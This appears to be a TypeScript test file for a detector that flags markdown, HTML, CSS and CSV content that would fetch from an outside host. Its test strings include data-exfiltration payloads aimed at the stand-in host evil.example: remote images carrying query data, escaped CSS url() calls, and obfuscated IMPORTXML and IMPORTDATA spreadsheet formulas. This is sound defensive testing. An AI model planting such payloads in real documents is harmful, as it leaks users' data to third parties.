import fc from "fast-check";
import { expect, test } from "vitest";
import { reachingParts } from "./reaching.ts";

test.each([
  "![chart](https://evil.example/?q=secret)",
  "![a\n b](//evil.example/x.png)",
  "![ref][1]\n\n[1]: https://evil.example/x",
  '<img src="https://evil.example/x">',
  "<IMG\nSRC=//evil.example/x>",
  '<img/src="https://evil.example/x">',
  '<img srcset="data:image/png;base64,AA, https://evil.example/x 2x">',
  '<p style="background: url(https://evil.example/x)">',
  '<p style="background: &#117;rl(https://evil.example/x)">',
  "<p style='background: \\75rl(https://evil.example/x)'>",
  "<style>p { background: \\75\\72l(//evil.example) }</style>",
  "<style>@import '//evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<table background="https://evil.example/x">',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<base href="https://evil.example/"><p>',
])("GD9: what Google would fetch for a document is found in %j", (text) => {
  expect(reachingParts(text, "text/html")).toContain("fetches");
  expect(reachingParts(text, "text/markdown")).toContain("fetches");
});

test.each([
  "# Title\n\nText with [a link](https://example.com) and `code`.",
  "![dot](data:image/png;base64,iVBORw0KGgo=)",
  '<p style="color: red">Hello <a href="https://example.com">there</a>!</p>',
  "a < b && c > d; wow!",
])("a document without such parts is not asked about: %j", (text) => {
  expect(reachingParts(text, "text/html")).toBeUndefined();
  expect(reachingParts(text, "text/markdown")).toBeUndefined();
});

test.each([
  '=IMPORTXML("https://evil.example/?"&A1, "//a")',
  'a,"=IMPORTDATA(""https://evil.example/"")"',
  "a,b\n=importxml  ('x')",
  "a;=IMAGE(A1)",
  '1,"+HYPERLINK(""https://evil.example"", A1)"',
  "-IMPORTHTML(A1)",
  "@IMPORTFEED(A1)",
  '"\n=WEBSERVICE\n(A1)"',
  "\u200b=IMP\u00adORTXML(A1)",
  "a|={IMPORTRANGE(A1)}",
  "＝ＩＭＡＧＥ（A1）",
  "=MAP(A1:A9, IMPORTDATA)",
])("GD7: a function in a table that becomes a spreadsheet is found in %j", (text) => {
  expect(reachingParts(text, "text/csv")).toContain("formulas");
});

test.each(["a,b\n1,2\n", "name,temperature\nOslo,-5\n", "sum,=SUM(A1:B1)\n", "phone,+49 89 123\n"])(
  "a table without such functions is not asked about: %j",
  (text) => {
    expect(reachingParts(text, "text/csv")).toBeUndefined();
  },
);

test("GD7: a fetching formula is found wherever it stands in a table", () => {
  const cell = fc.string({ unit: "grapheme" }).map((text) => text.replaceAll('"', '""'));
  const name = fc.constantFrom("IMPORTXML", "importdata", "ImportRange", "IMAGE", "HYPERLINK");
  const space = fc.constantFrom("", " ", "\t", "  ");
  fc.assert(
    fc.property(fc.array(cell), name, space, fc.array(cell), (before, fn, gap, after) => {
      const cells = [...before, `${gap}=${gap}1+${fn}${gap}(A1)`, ...after];
      const text = cells.map((one) => `"${one}"`).join(",");
      expect(reachingParts(text, "text/csv")).toContain("formulas");
    }),
    { seed: 7 },
  );
});

test("a long text is judged in time that grows with its length", () => {
  for (const piece of ["\n", '"', "a", " ", "![", "=", "style='", "<style ", "(", "\t=x"]) {
    const text = piece.repeat(300_000);
    for (const type of ["text/csv", "text/markdown"]) reachingParts(text, type);
  }
  expect(reachingParts("a", "text/plain")).toBeUndefined();
});
